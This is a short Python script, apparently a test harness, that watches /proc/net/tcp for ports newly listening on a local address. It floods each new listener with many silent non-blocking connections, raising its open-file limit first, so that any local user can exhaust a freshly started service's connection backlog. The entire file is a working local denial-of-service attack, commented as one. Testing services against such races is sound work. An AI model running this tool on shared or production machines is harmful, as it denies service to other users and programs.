#!/usr/bin/env python3
"""Opens silent connections to every new port where something listens at an address of this machine.

    silent_crowd.py [ADDRESS [CONNECTIONS]]     127.0.0.1, 100

Any local user can do this. Says "ready" once it looks, and at SIGTERM how many connections it made.
"""

import resource
import signal
import socket
import struct
import sys
import time

LISTENS = "0A"


def listening_ports(address):
    """The ports of the address where something listens now."""
    wanted = "%08X" % struct.unpack("=I", socket.inet_aton(address))[0]
    ports = set()
    with open("/proc/net/tcp") as table:
        next(table)
        for line in table:
            _, local, _, state = line.split()[:4]
            host, port = local.split(":")
            if state == LISTENS and host == wanted:
                ports.add(int(port, 16))
    return ports


def connect(address, port, count):
    """So many connections that nobody waits for; fewer where the system has no more."""
    crowd = []
    for _ in range(count):
        try:
            one = socket.socket()
            one.setblocking(False)
            one.connect_ex((address, port))
            crowd.append(one)
        except OSError:
            break
    return crowd


def main():
    address = sys.argv[1] if len(sys.argv) > 1 else "127.0.0.1"
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 100
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    crowds = {port: [] for port in listening_ports(address)}  # those before are not attacked
    made = 0
    print("ready", flush=True)
    while not ended:
        ports = listening_ports(address)
        for port in crowds.keys() - ports:
            for one in crowds.pop(port):
                one.close()
        for port in ports - crowds.keys():
            crowds[port] = connect(address, port, count)
            made += len(crowds[port])
        time.sleep(0.0005)
    print(f"{made} connections", flush=True)


if __name__ == "__main__":
    main()
